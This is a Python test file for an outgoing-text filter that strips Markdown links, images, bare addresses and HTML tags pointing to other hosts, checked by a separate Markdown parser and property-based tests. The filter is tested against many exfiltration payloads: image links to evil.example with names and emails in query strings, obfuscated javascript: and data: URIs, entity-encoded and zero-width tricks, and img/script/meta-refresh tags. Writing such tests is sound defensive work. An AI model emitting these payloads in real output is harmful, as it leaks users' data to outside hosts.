"""No way to another host leaves the door; a Markdown parser that the door does not use is the judge."""

import html
import re
import unicodedata
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from gateway.door.destinations import Hosts
from gateway.door.outgoing import OutgoingText, without_links

NONE = Hosts()
CRM = Hosts(["crm.nordlicht.example"])
JUDGE = MarkdownIt("commonmark", {"html": True})
R = "[link removed]"

PAYLOADS = {
    # links and images of Markdown
    "Look [here](https://evil.example/x) now.": "Look here now.",
    "![a](//evil)": "a",
    "![](https://evil.example/p.png?q=Anna)": "",
    "![Anna's bill](https://evil.example/p.png?q=Anna Weidenbach)": "Anna's bill",
    '[x](https://evil.example "a title")': "x",
    "[x](<https://evil.example/a b>)": "x",
    "[x]( \n https://evil.example )": "x",
    "[x](https://ev\nil.example/y)": "x",
    "[x](\\/\\/evil.example)": "x",
    "[x](/\\evil.example)": "x",
    "[x](\\\\evil.example)": "x",
    "[x](http:evil.example)": "x",
    "[x](HTTPS://EVIL.EXAMPLE)": "x",
    "[x](&#104;ttps&#58;&#47;&#47;evil.example)": "x",
    "[x](https&colon;&sol;&sol;evil.example)": "x",
    "[x](&amp;#104;ttps://evil.example)": "x",
    "[x](／／evil.example)": "x",
    "[x](//evil。example)": "x",
    "[x](\u200bhttps://evil.example)": "x",
    "[x](java\u00adscript:alert(1))": "x",
    "[x](javascript:alert(1))": "x",
    "[x](JaVaScRiPt&#58;alert(1))": "x",
    "[x](data:text/html;base64,PHA+)": "x",
    "[x](vbscript:msgbox)": "x",
    "[x](mailto:me@evil.example?body=Anna)": "x",
    "[x](ftp://evil.example)": "x",
    "[x](file:///etc/passwd)": "x",
    "[x](https://evil.example/(a(b)c))": "x",
    "[x [y] z](https://evil.example)": "x [y] z",
    "[![a](//evil/a)](//evil/b)": "a",
    "[x](/go?to=https://evil.example)": "x",
    "[x](<URL_3>?q=<PERSON_1>)": "x",
    "![x](<URL_3>)": "x",
    "![x](URL_3)": "x",
    "[x](</a>https:evil.example)": "x",
    "![x]([withheld]/?q=<PERSON_1>)": "x",
    "![x](https://evil.example/?q=<PERSON_1>&m=<PERSON_1_EMAIL>)": "x",
    "![x](https://evil.example": "x",
    "[x](https://evil.example/" + "a" * 2000 + ") end": "x end",
    "[" + "long " * 100 + "](https://evil.example) end": "[" + "long " * 100 + " end",
    # references
    "[x][1]\n\n[1]: https://evil.example/?q=Anna": f"[x][1]\n\n[1]: {R}",
    "![x][a b]\n\n[a b]: <//evil.example> 'title'": f"![x][a b]\n\n[a b]: {R} 'title'",
    "[x]\n\n[x]:\n  https://evil.example": f"[x]\n\n[x]: {R}",
    "[x]: /\\evil.example\n": f"[x]: {R}\n",
    "> [x]: https&#x3a;//evil.example\n": f"> [x]: {R}\n",
    # autolinks and bare addresses
    "<https://evil.example/?q=Anna>": R,
    "<HTTP:evil>": R,
    "<https://a>:/\\evil.example": f"{R} {R}",
    "<https://a>(/\\evil.example)": f"{R} (/\\evil.example)",
    "<mailto:me@evil.example>": R,
    "See https://evil.example/?q=Anna. Then": f"See {R}. Then",
    "(https://evil.example/a_(b))": f"({R}))",
    "**https://evil.example**": f"**{R}**",
    "www.evil.example/x, or": f"{R}, or",
    "it is at //evil.example/x now": f"it is at {R} now",
    "https://user:pass@evil.example:8080/": R,
    "https://[::1]/x": R,
    "http://2130706433/x": R,
    "https:\\\\evil.example\\x": R,
    "https:/\\evil.example": R,
    "https&#58;&#47;&#47;evil.example": R,
    "https&#x3A;&sol;/evil.example": R,
    "https：／／evil.example": R,
    "ht\u200btps://evil.example": f"ht\u200btps{R}",
    "https\u200b:\u200b//evil.example": R,
    "https:// evil.example": f"{R} evil.example",
    "xhttps://evil.example": f"xhttps{R}",
    "gopher://evil.example": f"gopher{R}",
    "data:text/html,<b>hello</b>": f"{R}<b>hello</b>",
    "data:;base64,AAAA": R,
    "javascript:alert(document.cookie)": f"{R})",
    "https://evil.example/<PERSON_1>/<PERSON_1_EMAIL>?x ok": f"{R} ok",
    "<URL_1>?q=<PERSON_1> ok": f"{R} ok",
    "<URL_1><PERSON_1> ok": f"{R} ok",
    "https://" + "a" * 3000 + " end": f"{R} end",
    "https://a: /\\evil.example": f"{R} /\\evil.example",
    # HTML
    "<img/src=//evil.example>": " ",
    '<img alt="a" src="https://evil.example/?q=Anna">': " ",
    "<IMG\nSRC\n=\n'//evil.example'>": " ",
    '<a href="https://evil.example">text</a>': " text ",
    '<svg><image href="//evil.example"/></svg>': "   ",
    '<p style="background:url(//evil.example)">x</p>': " x</p>",
    "<style>@import '//evil.example/a.css';</style>": f" @import '{R}'; ",
    "<script>fetch('https://evil.example')</script>": f" fetch('{R}') ",
    '<meta http-equiv=refresh content="0;url=//evil.example">': " ",
    '<form action="/x"><input name=a></form>': "   ",
    '<video poster="//evil.example">': " ",
    '<img src="https://evil.example/<PERSON_1>">': " ",
    "<img src=//evil.example ": f"< img src={R} ",
    "<img <b x=1> src=x>": "< img   src=x>",
    # what one removal could build for another
    "[a][](//x)(//evil.example)": f"[a] ({R})",
    "[a][(//evil.example)](//x)": f"[a] ({R})",
    "https:/[/evil.example](//x)": "https:/ /evil.example",
    "https:[//evil.example](//x)": f"https: {R}",
    "https:/<b x=1>/evil.example": "https:/ /evil.example",
    "<[img](//x) src=//evil.example>": f"< img src={R}>",
    "&[#](//x)58;//evil": f"& # 58;{R}",
    "java[script:alert(1)](//x)": f"{R})",
    "![a]![](//x)(//evil.example)": f"![a] ({R})",
}

HARMLESS = [
    "The refund of [1] was paid on 3 May [2][3]. See [4]: the invoice.",
    "<PERSON_1> wrote to <PERSON_1_EMAIL> (see [1](as of 10:30)) [2](<PERSON_2> too).",
    "Anna Weidenbach <a.weidenbach@nordlicht.example> asked; a.w@nordlicht.example too.",
    "if a < b and/or c > d, then <3 and 5/6; note: and data: are words, file: too.",
    "- [ ] open\n- [x] done\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "Ratio 3:4, time 10:30, path a/b/c, C:\\x and 50 % of 1,234.00 € & more; R&D.",
    "Use `List<String>` or <br> or **bold** and _it_! What?! [unclosed",
    "[1]: Invoice from May\n[2]: €300\n[3]: Note: paid",
    "[the order](/orders/17#lines) and <URL_1>, or <URL_2>.",
]


def pieces(text: str, cuts: list[int]) -> list[str]:
    places = sorted({cut % (len(text) + 1) for cut in cuts})
    return [text[start:end] for start, end in zip([0, *places], [*places, len(text)], strict=True)]


def streamed(chunks: list[str], hosts: Hosts = NONE) -> str:
    outgoing = OutgoingText(hosts)
    return "".join([*(outgoing.feed(chunk) for chunk in chunks), outgoing.finish()])


def leads_away(destination: str) -> bool:
    """Read generously, and by other code than the door's."""
    plain = unicodedata.normalize("NFKC", html.unescape(destination)).strip().replace("\\", "/")
    parts = urlsplit(plain)
    return bool(parts.netloc) or bool(parts.scheme and plain != parts.scheme + ":") or plain.startswith("//")


def ways_out(text: str) -> list[str]:
    """Every destination that CommonMark finds in a text, and every active tag."""
    found: list[str] = []
    tokens = JUDGE.parse(text)
    for token in [*tokens, *(child for parent in tokens for child in parent.children or [])]:
        found += [str(value) for name, value in token.attrs.items() if name in ("href", "src")]
        if token.type in ("html_inline", "html_block"):
            found += re.findall(r"(?i)<[^<>]*(?:src|href|style|action)\s*=[^<>]*>", token.content)
    return [each for each in found if each.startswith("<") or leads_away(each)]


BARE = re.compile(r"(?i)(?:https?|ftp):[/\\]{2}\S|://\S|(?<![\w/])//[^\s/]|(?<![\w@.])www\.\w")


def test_the_judge_sees_ways_out_where_there_are_some() -> None:
    seen = [payload for payload in PAYLOADS if ways_out(payload) or BARE.search(html.unescape(payload))]
    assert len(seen) > 50


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_way_to_another_host_does_not_leave(payload: str) -> None:
    answer = without_links(payload, NONE)
    assert answer == PAYLOADS[payload]
    assert not ways_out(answer)
    assert not BARE.search(html.unescape(answer))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_does_not_pass_letter_by_letter(payload: str) -> None:
    assert streamed(list(payload)) == PAYLOADS[payload]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_leads_nowhere_passes_unchanged(text: str) -> None:
    assert without_links(text, NONE) == text
    assert streamed(list(text)) == text


ATOMS = [
    *"[]()!<>:/\\&;#=\"'` \n.a1",
    *(
        "http",
        "https:",
        "//",
        "://",
        "evil.example",
        "&#58;",
        "&colon;",
        "&sol",
        "](",
        "![",
        "]:",
        "][",
        "<img ",
    ),
    *("src=", "<a ", "href=", "</a>", "<PERSON_1>", "<URL_1>", "javascript:", "data:", "text/html,", "www."),
    *("\u200b", "／", "<https://evil.example>", "[x](//evil)", "![](//evil)", "<b x=1>", "text ", "\n\n"),
]


@settings(max_examples=600, deadline=None)
@given(
    st.one_of(
        st.lists(st.sampled_from(ATOMS), max_size=24).map("".join),
        st.lists(st.sampled_from([*PAYLOADS]), max_size=4).map(" ".join),
    ),
    st.lists(st.integers(0, 4000), max_size=12),
)
def test_any_cut_of_a_stream_gives_what_the_whole_gives(text: str, cuts: list[int]) -> None:
    assert streamed(pieces(text, cuts)) == without_links(text, NONE)


@settings(max_examples=1500, deadline=None)
@given(st.lists(st.sampled_from(ATOMS), max_size=24).map("".join))
def test_nothing_that_is_taken_out_builds_a_new_way_out(text: str) -> None:
    answer = without_links(text, NONE)
    assert not ways_out(answer)
    assert not BARE.search(answer)


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(["[", "![", "<a ", "](", "[x](", "[x]: ", "//", "https://", "&#", "<", ":", "["]))
def test_no_more_than_a_bound_is_ever_held_back(opening: str) -> None:
    outgoing = OutgoingText(NONE)
    outgoing.feed(opening)
    for _ in range(200):
        outgoing.feed("aaaaaaaaaa")
    held = len(outgoing._markup._pending) + len(outgoing._addresses._pending)
    assert held <= 1200


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[x](https://crm.nordlicht.example/a)", "[x](https://crm.nordlicht.example/a)"),
        ("see https://crm.nordlicht.example/a?b=1.", "see https://crm.nordlicht.example/a?b=1."),
        ("<https://CRM.nordlicht.example:8069/a>", "<https://CRM.nordlicht.example:8069/a>"),
        ("//crm.nordlicht.example/a", "//crm.nordlicht.example/a"),
        ("https://crm.nordlicht.example.", "https://crm.nordlicht.example."),
        ("https://crm.nordlicht.example@evil.example/", R),
        ("https://crm.nordlicht.example:x@evil.example/", R),
        ("https://crm.nordlicht.example\\@evil.example/", R),
        ("https://crm.nordlicht.example.evil.example/", R),
        ("https://evil.example/crm.nordlicht.example", R),
        ("https://crm.nordlicht.example/?u=https://evil.example", f"https://crm.nordlicht.example/?u={R}"),
        ("[x](https://crm.nordlicht.example/?u=//evil.example)", "x"),
        ("[x](https://crm.nordlicht.example\\@evil.example)", "x"),
        ("[x](ftp://crm.nordlicht.example)", "x"),
        ("![x](https&#58;//crm.nordlicht.example)", "x"),
    ],
)
def test_only_a_named_host_may_be_linked(text: str, expected: str) -> None:
    assert without_links(text, CRM) == expected
    assert streamed(list(text), CRM) == expected
